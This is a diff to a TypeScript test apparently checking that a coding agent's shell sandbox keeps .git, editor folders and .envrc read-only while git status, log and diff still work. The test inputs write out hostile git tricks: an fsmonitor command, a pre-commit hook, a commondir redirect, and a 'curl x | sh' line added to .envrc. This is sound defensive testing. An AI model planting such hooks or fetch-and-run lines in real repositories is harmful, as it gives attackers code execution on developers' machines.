@@ -98,32 +98,35 @@ describe.each(SHELLS)("Bash inside the sandbox (%s)", (kind, shellPath) => {
     expect(again.s.output).toBe(`kept\n${path.join(processOutputDir(), "tmp")}\n`);
   });
 
-  it(`.git/config, .git/hooks and editor/agent folders stay read-only in the workspace, git still commits, and renaming .git away does not help (${kind})`, async () => {
+  it(`SANDBOX-GIT: all of .git and editor/agent folders stay read-only; git status, log and diff work; a commit fails and says how to run it; renaming .git away does not help (${kind})`, async () => {
     const t = testCore();
     const git = (args: string) => spawnSync("sh", ["-c", `git ${args}`], { cwd: t.root, encoding: "utf8" });
-    git("init -q && git config user.email t@example.com && git config user.name t");
+    git("init -q && git config user.email t@example.com && git config user.name t && echo x > f.txt && git add f.txt && git commit -qm one");
     mkdirSync(path.join(t.root, ".vscode"));
     writeFileSync(path.join(t.root, ".vscode/tasks.json"), "{}");
     writeFileSync(path.join(t.root, ".envrc"), "export A=1\n");
     const r = await t.bash({
       command: [
-        "echo x > f.txt && git add f.txt && git commit -qm one && echo committed",
+        "echo y >> f.txt; git status --short f.txt; git log --format=%s; git diff --stat | tail -1",
+        "git commit -qam two 2>&1",
         "git config core.fsmonitor 'touch /tmp/pwned' 2>&1 | tail -1",
         "echo 'touch /tmp/pwned' > .git/hooks/pre-commit 2>&1",
+        "echo ../../evil > .git/commondir 2>&1",
         "echo '{}' > .vscode/settings.json 2>&1",
         "echo 'curl x | sh' >> .envrc 2>&1",
-        "mv .git .git-away 2>&1; mv .git/config .git/c 2>&1; rm -rf .vscode 2>&1 | tail -1",
+        "mv .git .git-away 2>&1; rm -rf .vscode 2>&1 | tail -1",
         "true",
       ].join("\n"),
     });
-    expect(r.s.output).toContain("committed\n");
-    // git writes config.lock and renames it over config: the rename onto the mount point is refused.
-    expect(r.s.output).toContain("error: could not write config file .git/config: Device or resource busy");
-    for (const f of [".git/hooks/pre-commit", ".vscode/settings.json", ".envrc"]) expect(r.s.output).toMatch(readOnly(f));
+    expect(r.s.output).toContain(" M f.txt\none\n 1 file changed, 1 insertion(+)\n");
+    expect(r.s.output).toMatch(/Unable to create '.*\.git\/index\.lock': Read-only file system/);
+    expect(r.text).toContain("Git's metadata (.git) is read-only inside the sandbox");
+    expect(r.text).toContain("dangerouslyDisableSandbox: true");
+    for (const f of [".git/hooks/pre-commit", ".git/commondir", ".vscode/settings.json", ".envrc"]) expect(r.s.output).toMatch(readOnly(f));
     expect(r.s.output).toMatch(/mv: cannot move '\.git' to '\.git-away': Device or resource busy/);
-    expect(r.s.output).toMatch(/mv: cannot move '\.git\/config' to '\.git\/c': Device or resource busy/);
     expect(git("config core.fsmonitor").stdout).toBe("");
     expect(existsSync(path.join(t.root, ".git/hooks/pre-commit"))).toBe(false);
+    expect(existsSync(path.join(t.root, ".git/commondir"))).toBe(false);
     expect(existsSync(path.join(t.root, ".vscode/tasks.json"))).toBe(true);
     expect(readFileSync(path.join(t.root, ".envrc"), "utf8")).toBe("export A=1\n");
     expect(git("log --format=%s").stdout).toBe("one\n");
